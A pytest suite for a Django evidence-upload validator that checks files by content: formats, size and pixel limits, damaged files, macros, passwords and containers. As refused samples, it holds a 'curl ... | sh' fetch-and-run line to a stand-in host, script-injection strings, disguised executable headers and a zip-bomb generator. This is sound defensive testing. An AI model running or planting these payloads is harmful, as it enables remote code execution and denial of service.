"""An evidence file is accepted or refused by what its bytes are, whatever it is called; every
sample is made here, in memory."""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files import File
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from assessments.evidence_files import MAX_BYTES, MAX_EXPANDED_BYTES, CheckedFile, check_file

PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj\n"
    b"trailer << /Root 1 0 R >>\n"
    b"%%EOF\n"
)
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
EXCEL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORD_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def upload(content: bytes, name: str = "evidence") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refusal_of(content: bytes, name: str = "evidence") -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        check_file(upload(content, name))
    return refused.value


def content_types(main_part: str, main_type: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    )


def ooxml(main_part: str, main_type: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", content_types(main_part, main_type))
        archive.writestr(main_part, "<document/>")
    return buffer.getvalue()


def odf(mimetype: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        # ODF wants "mimetype" first and stored, so that it can be read at a fixed offset.
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


SECTOR = 512
END_OF_CHAIN, FREE, FAT_SECTOR, NO_ENTRY = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF


def ole(streams: list[str], storages: tuple[str, ...] = ()) -> bytes:
    """A minimal OLE2 compound file (version 3, 512-byte sectors) with the named streams and
    empty storages: olefile only reads these files, so this writes one. Each stream is 4096
    bytes, the least that lives in the FAT itself rather than in the mini stream."""
    stream_size = 4096
    names = [*streams, *storages]

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            encoded, len(encoded), kind, 1, NO_ENTRY, right, child, b"", 0, 0, 0, start, size,
        )  # fmt: skip

    # Sector 0 holds the FAT, sector 1 the directory, then come the streams one after another.
    fat = [FAT_SECTOR, END_OF_CHAIN]
    directory = [entry("Root Entry", 5, 1 if names else NO_ENTRY, NO_ENTRY, END_OF_CHAIN, 0)]
    for number, name in enumerate(names, start=1):
        right = number + 1 if number < len(names) else NO_ENTRY  # siblings in a chain
        if name in streams:
            start = len(fat)
            fat += [*range(start + 1, start + stream_size // SECTOR), END_OF_CHAIN]
            directory.append(entry(name, 2, NO_ENTRY, right, start, stream_size))
        else:
            directory.append(entry(name, 1, NO_ENTRY, right, 0, 0))
    unused = bytes(68) + struct.pack("<III", NO_ENTRY, NO_ENTRY, NO_ENTRY) + bytes(48)
    directory += [unused] * (SECTOR // 128 - len(directory))
    fat += [FREE] * (SECTOR // 4 - len(fat))

    # Signature, class id, minor and major version, byte order, sector and mini-sector size
    # (as powers of 2), reserved; then the counts and first sectors of the directory, FAT,
    # mini FAT and DIFAT, and the size under which a stream goes to the mini stream.
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", 0x3E, 3, 0xFFFE, 9, 6, b"",
        0, 1, 1, 0, stream_size, END_OF_CHAIN, 0, END_OF_CHAIN, 0,
    )  # fmt: skip
    header += struct.pack("<109I", 0, *[FREE] * 108)
    fat_and_directory = struct.pack(f"<{len(fat)}I", *fat) + b"".join(directory)
    assert len(fat_and_directory) == 2 * SECTOR
    return header + fat_and_directory + b"\x01" * stream_size * len(streams)


def image(pillow_format: str, size: tuple[int, int] = (4, 3)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, "teal").save(buffer, pillow_format)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def twenty_megabytes_of_csv() -> bytes:
    row = b"country,score\n"
    content = row * (MAX_BYTES // len(row))
    return content + b"x" * (MAX_BYTES - len(content))


@pytest.mark.parametrize(
    ("content", "kind", "content_type", "extension"),
    [
        (PDF, "pdf", "application/pdf", ".pdf"),
        (
            ooxml("word/document.xml", WORD_MAIN),
            "docx",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ".docx",
        ),
        (
            ooxml("xl/workbook.xml", EXCEL_MAIN),
            "xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ".xlsx",
        ),
        (ole(["WordDocument", "1Table"]), "doc", "application/msword", ".doc"),
        (ole(["Workbook"]), "xls", "application/vnd.ms-excel", ".xls"),
        (ole(["Book"]), "xls", "application/vnd.ms-excel", ".xls"),  # Excel 5 and 95
        (
            odf("application/vnd.oasis.opendocument.text"),
            "odt",
            "application/vnd.oasis.opendocument.text",
            ".odt",
        ),
        (
            odf("application/vnd.oasis.opendocument.spreadsheet"),
            "ods",
            "application/vnd.oasis.opendocument.spreadsheet",
            ".ods",
        ),
        (image("PNG"), "png", "image/png", ".png"),
        (image("JPEG"), "jpeg", "image/jpeg", ".jpg"),
        (image("GIF"), "gif", "image/gif", ".gif"),
        (image("WEBP"), "webp", "image/webp", ".webp"),
        (b"country,score\nRwanda,3\n", "csv", "text/csv; charset=utf-8", ".csv"),
        ("\ufeffpays,note\nCôte d'Ivoire,2\r\n".encode(), "csv", "text/csv; charset=utf-8", ".csv"),
    ],
)
def test_accepted_files_are_told_by_their_content(content, kind, content_type, extension) -> None:
    file = upload(content, name="renamed.bin")
    file.read(3)  # a caller may have read some of it already

    checked = check_file(file)

    assert checked == CheckedFile(
        kind=kind,
        content_type=content_type,
        extension=extension,
        size=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
    )
    assert file.tell() == 0


def test_a_plain_django_file_on_disk_is_checked_too(tmp_path) -> None:
    path = tmp_path / "report.pdf"
    path.write_bytes(PDF)
    with path.open("rb") as opened:
        file = File(opened)
        assert check_file(file).kind == "pdf"
        assert file.tell() == 0


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, "report.pdf"),
        (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 54 + b"PE\x00\x00", "budget.docx"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "figures.csv"),
        (b"<!doctype html><html><script>alert(1)</script></html>", "report.pdf"),
        (b'  \n<?xml version="1.0"?><report/>', "data.csv"),
        ("\ufeff<script>alert(1)</script>".encode(), "data.csv"),
        (b"caf\xe9,1\n", "latin1.csv"),  # not UTF-8: Excel's plain "CSV" on Windows
        ("a,b\n".encode("utf-16"), "utf16.csv"),
    ],
)
def test_other_files_are_refused_whatever_their_name(content, name) -> None:
    file = upload(content, name)
    with pytest.raises(ValidationError) as refused:
        check_file(file)
    assert refused.value.code == "unsupported"
    assert file.tell() == 0


def test_refused_as_unsupported_the_message_lists_what_is_accepted() -> None:
    refused = refusal_of(b"<!doctype html><p>Hello</p>", "report.pdf")
    assert refused.code == "unsupported"
    message = refused.messages[0]
    assert "not accepted" in message
    assert "PDF" in message and ".docx" in message and "CSV" in message
    assert "save it as PDF and attach that" in message


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n<svg/>',
    ],
)
def test_an_svg_is_refused_with_the_reason(content) -> None:
    refused = refusal_of(content, "chart.png")
    assert refused.code == "svg"
    assert "SVG images can carry scripts" in refused.messages[0]


def test_a_file_over_the_limit_is_refused_before_it_is_read() -> None:
    class Unreadable(io.BytesIO):
        def read(self, *args):
            raise AssertionError("read although its size alone refuses it")

    file = SimpleUploadedFile("scan.pdf", b"")
    file.file, file.size = Unreadable(), MAX_BYTES + 1
    with pytest.raises(ValidationError) as refused:
        check_file(file)
    assert refused.value.code == "too_large"
    assert "larger than 20 MB" in refused.value.messages[0]


def test_a_file_one_byte_over_the_limit_is_refused(twenty_megabytes_of_csv) -> None:
    refused = refusal_of(twenty_megabytes_of_csv + b"x", "figures.csv")
    assert refused.code == "too_large"


def test_a_file_of_exactly_the_limit_is_accepted(twenty_megabytes_of_csv) -> None:
    checked = check_file(upload(twenty_megabytes_of_csv, "figures.csv"))
    assert (checked.kind, checked.size) == ("csv", MAX_BYTES)


@pytest.mark.parametrize("content", [b"", b" \r\n\t\n"])
def test_an_empty_file_is_refused(content) -> None:
    refused = refusal_of(content)
    assert refused.code == "empty"
    assert "The file is empty" in refused.messages[0]


def test_a_document_that_would_expand_past_the_limit_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", content_types("word/document.xml", WORD_MAIN))
        with archive.open("word/document.xml", "w") as member:
            megabyte = bytes(1024 * 1024)
            for _ in range(MAX_EXPANDED_BYTES // len(megabyte) + 1):
                member.write(megabyte)
    assert len(buffer.getvalue()) < 1024 * 1024

    refused = refusal_of(buffer.getvalue(), "bomb.docx")
    assert refused.code == "expands"
    assert "more than 100 MB" in refused.messages[0]


def test_an_image_over_the_pixel_limit_is_refused(monkeypatch) -> None:
    png = image("PNG", size=(40, 30))
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # Pillow only warns up to twice this
    refused = refusal_of(png, "photo.png")
    assert refused.code == "too_many_pixels"
    assert "more than 1,000 pixels" in refused.messages[0]

    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 100)  # and raises beyond it
    assert refusal_of(png, "photo.png").code == "too_many_pixels"


@pytest.mark.parametrize(
    "content",
    [
        image("PNG")[:40],
        image("PNG")[:-20] + bytes(20),  # a chunk's checksum is wrong
        image("JPEG")[:200],
        b"PK\x03\x04" + bytes(60),  # a zip's signature, and no zip behind it
        ole(["WordDocument"])[:600],
    ],
)
def test_a_file_that_cannot_be_read_is_refused_as_damaged(content) -> None:
    damaged = refusal_of(content, "minutes.docx")
    assert damaged.code == "damaged"
    assert "it may be damaged or incomplete" in damaged.messages[0]


@pytest.mark.parametrize(
    "content",
    [
        ooxml("word/document.xml", WORD_MACRO_MAIN),
        ooxml("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ole(["WordDocument", "1Table"], storages=("Macros",)),
        ole(["Workbook"], storages=("_VBA_PROJECT_CUR",)),
    ],
)
def test_a_document_with_macros_is_refused(content) -> None:
    refused = refusal_of(content, "minutes.docx")
    assert refused.code == "macros"
    assert "Save it as a document without macros" in refused.messages[0]


def test_a_password_protected_office_document_is_refused_with_the_reason() -> None:
    refused = refusal_of(ole(["EncryptionInfo", "EncryptedPackage"]), "minutes.docx")
    assert refused.code == "encrypted"
    assert "Remove the password" in refused.messages[0]


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("minutes.pdf", PDF)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        plain_zip(),
        ooxml(
            "ppt/presentation.xml",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        ),
        odf("application/vnd.oasis.opendocument.presentation"),
        odf("application/epub+zip"),
        ole(["PowerPoint Document"]),
    ],
)
def test_other_containers_are_refused(content) -> None:
    assert refusal_of(content, "minutes.docx").code == "unsupported"
